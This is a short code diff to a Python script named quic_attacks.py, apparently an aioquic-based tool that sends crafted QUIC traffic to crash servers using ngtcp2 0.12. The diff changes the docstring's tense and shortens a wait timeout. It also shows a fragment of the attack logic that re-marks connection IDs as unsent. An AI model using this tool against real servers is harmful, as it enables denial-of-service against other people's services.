@@ -1,4 +1,4 @@
-"""Does to a QUIC server what ends processes that use ngtcp2 0.12. Written on aioquic.
+"""Does to a QUIC server what ended processes that used ngtcp2 0.12. Written on aioquic.
 
 usage: quic_attacks.py URL CA-FILE ATTACK
 
@@ -89,8 +89,11 @@ async def as_client(url, authority, attack):
             for identity in quic._host_cids:
                 identity.was_sent = False
         client.transmit()
-        event = await asyncio.wait_for(ended, 10)
-        print(f"error_code={event.error_code}")
+        try:
+            event = await asyncio.wait_for(ended, 3)
+            print(f"error_code={event.error_code}")
+        except asyncio.TimeoutError:
+            print("sent")
 
 
 def varint(value):
